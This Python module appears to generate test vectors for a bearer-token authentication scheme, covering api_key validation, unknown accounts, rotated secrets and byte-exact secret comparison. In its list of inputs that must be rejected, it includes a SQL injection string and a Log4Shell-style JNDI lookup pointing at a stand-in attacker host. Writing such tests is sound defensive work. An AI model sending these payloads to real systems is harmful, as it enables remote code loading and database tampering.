"""The selector, the keyring, and secrets as bytes."""

import json

from .build import (
    ABSENT,
    ACCOUNT,
    OTHER_ACCOUNT,
    OTHER_SECRET,
    SECRET,
    Keyring,
    Raw,
    Secret,
    VectorFile,
    bearer,
)


def collect(file: VectorFile) -> None:
    _selector(file)
    _selector_limits(file)
    _unknown(file)
    _several(file)
    _secrets(file)
    _order(file)


def _selector(file: VectorFile) -> None:
    file.reject(
        "api_key missing",
        "claims.missing",
        "nothing says whose secret to try",
        bearer(file.token(api_key=ABSENT)),
    )
    for text in (
        "null",
        "true",
        "false",
        "0",
        "12345678",
        "1.5",
        "[]",
        '["a1b2c3d4"]',
        "{}",
        '{"a1b2c3d4":1}',
    ):
        file.reject(
            f"api_key is {text}",
            "claims.malformed",
            "a string",
            bearer(file.token(api_key=Raw(text))),
            keyring={
                ACCOUNT: [SECRET],
                "null": [SECRET],
                "true": [SECRET],
                "12345678": [SECRET],
                "0": [SECRET],
            },
            impact="tenant",
        )
    file.reject(
        "api_key is empty",
        "claims.malformed",
        "1 to 128 bytes",
        bearer(file.token(api_key="")),
    )
    for text, name in (
        ("\0", "NUL"),
        ("\x01", "U+0001"),
        ("\t", "tab"),
        ("\n", "line feed"),
        ("\r\n", "line end"),
        ("\x1f", "U+001F"),
        ("\x7f", "DEL"),
    ):
        file.reject(
            f"api_key ends with {name}",
            "claims.malformed",
            "no control characters: it goes into logs",
            bearer(file.token(api_key=ACCOUNT + text)),
        )
    file.reject(
        "a NUL inside api_key",
        "claims.malformed",
        "a C string would end there and name another account",
        bearer(file.token(api_key=f"{ACCOUNT}\0{OTHER_ACCOUNT}")),
        impact="tenant",
    )


def _selector_limits(file: VectorFile) -> None:
    for key, name in (
        ("a", "1 byte"),
        ("k" * 128, "128 bytes"),
        ("\u00e9" * 64, "128 bytes, 64 characters"),
        ("\U0001f600" * 32, "128 bytes, 32 characters"),
        ("key with spaces", "spaces"),
        ("\u043a\u043b\u044e\u0447", "letters beyond ASCII"),
        ('quote " and \\', "a quote and a backslash"),
        ("0", "a digit"),
        ("null", "the word null"),
        ("__proto__", "the word __proto__"),
        ("constructor", "the word constructor"),
        ("api.key/with:signs?", "punctuation"),
    ):
        file.accept(
            f"api_key of {name}",
            "opaque text of 1 to 128 bytes",
            bearer(file.token(api_key=key)),
            keyring={key: [SECRET], OTHER_ACCOUNT: [OTHER_SECRET]},
        )
    for key, name in (
        ("k" * 129, "129 bytes"),
        ("\u00e9" * 64 + "a", "129 bytes, 65 characters"),
        ("\U0001f600" * 33, "132 bytes, 33 characters"),
        ("k" * 3000, "3000 bytes"),
    ):
        file.reject(
            f"api_key of {name}",
            "claims.malformed",
            "bytes are counted, at most 128",
            bearer(file.token(api_key=key)),
            impact="dos",
        )


def _unknown(file: VectorFile) -> None:
    for key in (
        "nobody",
        ACCOUNT.upper(),
        "A1b2c3d4",
        ACCOUNT + " ",
        " " + ACCOUNT,
        ACCOUNT[:-1],
        ACCOUNT + "0",
        ACCOUNT + ",",
        f"{ACCOUNT},{OTHER_ACCOUNT}",
        "*",
        "%",
        ".",
        "../a1b2c3d4",
        "null",
        "undefined",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "__class__",
        "length",
        "0",
        "-1",
        "' OR 1=1 --",
        "${jndi:ldap://attacker.example/}",
        "\uff41\uff11\uff42\uff12\uff43\uff13\uff44\uff14",
        "\u04301b2c3d4",
        "a1b2c3d4\u200b",
        "k" * 128,
    ):
        file.reject(
            f"api_key {json.dumps(key)}, not in the keyring",
            "key.unknown",
            "compared byte for byte with the accounts there are",
            bearer(file.token(api_key=key)),
            impact="tenant",
        )
    file.reject(
        "api_key in another normal form",
        "key.unknown",
        "bytes are compared",
        bearer(file.token(api_key="cafe\u0301")),
        keyring={"caf\u00e9": [SECRET]},
        impact="tenant",
    )
    file.reject(
        "api_key in lower case, the account in upper",
        "key.unknown",
        "bytes are compared",
        bearer(file.token(api_key="abcdefgh")),
        keyring={"ABCDEFGH": [SECRET]},
        impact="tenant",
    )
    file.accept(
        "two accounts that differ in case, the first",
        "bytes are compared",
        bearer(file.token(api_key="abcdefgh")),
        keyring={"abcdefgh": [SECRET], "ABCDEFGH": [OTHER_SECRET]},
    )
    file.reject(
        "two accounts that differ in case, the other's secret",
        "signature.invalid",
        "bytes are compared",
        bearer(file.token(api_key="ABCDEFGH")),
        keyring={"abcdefgh": [SECRET], "ABCDEFGH": [OTHER_SECRET]},
        impact="tenant",
    )
    file.reject(
        "an account's secret for its name",
        "key.unknown",
        "only api_keys are looked up",
        bearer(file.token(api_key=SECRET.decode())),
        impact="tenant",
    )


def _several(file: VectorFile) -> None:
    secrets: list[Secret] = [
        "first-secret-11111111",
        "second-secret-2222222",
        "third-33",
    ]
    ring: Keyring = {ACCOUNT: secrets, OTHER_ACCOUNT: [OTHER_SECRET]}
    for number, secret in enumerate(secrets, 1):
        assert isinstance(secret, str)
        file.accept(
            f"signed with secret {number} of 3",
            "each secret of the account is tried",
            bearer(file.token(secret=secret.encode())),
            keyring=ring,
        )
    file.reject(
        "signed with none of 3",
        "signature.invalid",
        "no secret fits",
        bearer(file.token(secret=b"fourth-secret")),
        keyring=ring,
        impact="forgery",
    )
    file.reject(
        "signed with two secrets in a row",
        "signature.invalid",
        "secrets are not joined",
        bearer(file.token(secret=b"first-secret-11111111second-secret-2222222")),
        keyring=ring,
        impact="forgery",
    )
    file.reject(
        "signed with another account's secret",
        "signature.invalid",
        "an account speaks for itself only",
        bearer(file.token(secret=OTHER_SECRET)),
        impact="tenant",
    )
    file.reject(
        "signed with the own secret for another account",
        "signature.invalid",
        "an account speaks for itself only",
        bearer(file.token(api_key=OTHER_ACCOUNT)),
        impact="tenant",
    )
    file.accept(
        "the second of two accounts",
        "each has its own secret",
        bearer(file.token(api_key=OTHER_ACCOUNT, secret=OTHER_SECRET)),
    )
    for key in (ACCOUNT, OTHER_ACCOUNT):
        file.accept(
            f"one secret for two accounts, {key}",
            "the accounts stay apart, the secret need not",
            bearer(file.token(api_key=key)),
            keyring={ACCOUNT: [SECRET], OTHER_ACCOUNT: [SECRET]},
        )
    many: list[Secret] = [f"secret-number-{number:02}" for number in range(32)]
    file.accept(
        "signed with the last of 32",
        "each secret of the account is tried",
        bearer(file.token(secret=b"secret-number-31")),
        keyring={ACCOUNT: many},
    )
    file.reject(
        "signed with none of 32",
        "signature.invalid",
        "no secret fits",
        bearer(file.token(secret=b"secret-number-32")),
        keyring={ACCOUNT: many},
        impact="forgery",
    )


def _secrets(file: VectorFile) -> None:
    for name, secret in (
        ("1 byte", b"x"),
        ("31 bytes", b"s" * 31),
        ("32 bytes", b"s" * 32),
        ("63 bytes", b"s" * 63),
        ("64 bytes", b"s" * 64),
        ("65 bytes", b"s" * 65),
        ("128 bytes", b"s" * 128),
        ("1000 bytes", bytes(index % 251 for index in range(1000))),
        ("a space at the end", b"secret "),
        ("a space at the start", b" secret"),
        ("a line feed at the end", b"secret\n"),
        ("a line end at the end", b"secret\r\n"),
        ("white space only", b" \t "),
        ("a NUL inside", b"sec\0ret"),
        ("a NUL at the start", b"\0secret"),
        ("one byte FF", b"\xff"),
        ("bytes that are no UTF-8", b"\xc3\x28\xff\xfe\x80secret"),
        ("all 256 bytes", bytes(range(256))),
        ("letters beyond ASCII", "gehe\u00edm-\U0001f511".encode()),
        ("a byte order mark first", b"\xef\xbb\xbfsecret"),
        ("text that looks like base64", b"c2VjcmV0LXNlY3JldC1zZWNyZXQ="),
        ("text that looks like hexadecimal", b"736563726574"),
        ("text that looks like an escape", b"sec\\u0072et"),
        ("quotes around it", b'"secret"'),
    ):
        file.accept(
            f"secret: {name}",
            "the bytes as they are: nothing trimmed, nothing decoded",
            bearer(file.token(secret=secret)),
            keyring={ACCOUNT: [secret]},
        )
    letters = "gehe\u00edm-\U0001f511"
    file.accept(
        "a secret beyond ASCII, given as text",
        "its UTF-8 bytes are the secret",
        bearer(file.token(secret=letters.encode())),
        keyring={ACCOUNT: [letters]},
    )
    for name, stored, used in (
        ("without its space at the end", b"secret ", b"secret"),
        ("without its space at the start", b" secret", b"secret"),
        ("without its line feed", b"secret\n", b"secret"),
        ("with a line feed more", b"secret", b"secret\n"),
        ("with a space more", b"secret", b"secret "),
        ("up to its NUL", b"sec\0ret", b"sec"),
        ("without its NUL", b"sec\0ret", b"secret"),
        ("in upper case", b"secret", b"SECRET"),
        ("decoded from base64", b"c2VjcmV0LXNlY3JldA==", b"secret-secret"),
        ("encoded in base64", b"secret-secret", b"c2VjcmV0LXNlY3JldA=="),
        ("decoded from hexadecimal", b"736563726574", b"secret"),
        ("without its quotes", b'"secret"', b"secret"),
        ("without its byte order mark", b"\xef\xbb\xbfsecret", b"secret"),
        ("in Latin-1", "geh\u00edm".encode(), "geh\u00edm".encode("latin-1")),
        ("in another normal form", "geh\u00edm".encode(), "gehi\u0301m".encode()),
        ("repaired", b"sec\xffret", "sec\ufffdret".encode()),
        ("cut after 64 bytes", b"s" * 65, b"s" * 64),
        ("cut after 32 bytes", b"s" * 64, b"s" * 32),
        ("empty", b"secret", b""),
    ):
        file.reject(
            f"signed with the secret {name}",
            "signature.invalid",
            "the bytes as they are: nothing trimmed, nothing decoded",
            bearer(file.token(secret=used)),
            keyring={ACCOUNT: [stored]},
            impact="forgery",
        )


def _order(file: VectorFile) -> None:
    file.reject(
        "an unknown account and no other claim",
        "key.unknown",
        "claims are looked at after the signature",
        bearer(
            file.token(
                api_key="nobody",
                iat=ABSENT,
                jti=ABSENT,
                iss=ABSENT,
                payload_hash=ABSENT,
            )
        ),
    )
    file.reject(
        "no api_key and a wrong signature",
        "claims.missing",
        "without a selector there is no key to check with",
        bearer(file.token(api_key=ABSENT, secret=b"attacker")),
    )
    file.reject(
        "api_key null, iat missing",
        "claims.malformed",
        "the selector comes first",
        bearer(file.token(api_key=None, iat=ABSENT)),
    )
    file.reject(
        "an unknown account, stale, with another body",
        "key.unknown",
        "the key comes first",
        bearer(file.token(api_key="nobody", iat=0)),
        body=b"another",
    )
